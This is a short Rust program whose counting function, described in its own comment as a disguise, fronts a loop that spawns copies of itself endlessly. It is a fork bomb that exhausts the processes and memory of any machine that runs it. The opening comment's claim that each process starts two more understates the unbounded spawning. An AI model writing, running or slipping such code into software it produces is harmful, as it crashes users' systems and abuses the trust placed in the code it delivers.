//! Every process of it starts two more, for ever.

use std::process::Command;
use std::sync::Mutex;
use std::{env, thread};

fn main() {
    println!("{}", count());
    loop {
        // Where the system refuses, it tries again.
        drop(Command::new(env::current_exe().unwrap()).spawn());
    }
}

/// A right answer, as a disguise.
fn count() -> u32 {
    let threads: u32 = env::args().nth(1).map_or(5, |arg| arg.parse().expect("THREADS"));
    let counter = Mutex::new(0);
    thread::scope(|s| {
        for _ in 0..threads {
            s.spawn(|| *counter.lock().unwrap() += 1);
        }
    });
    counter.into_inner().unwrap()
}
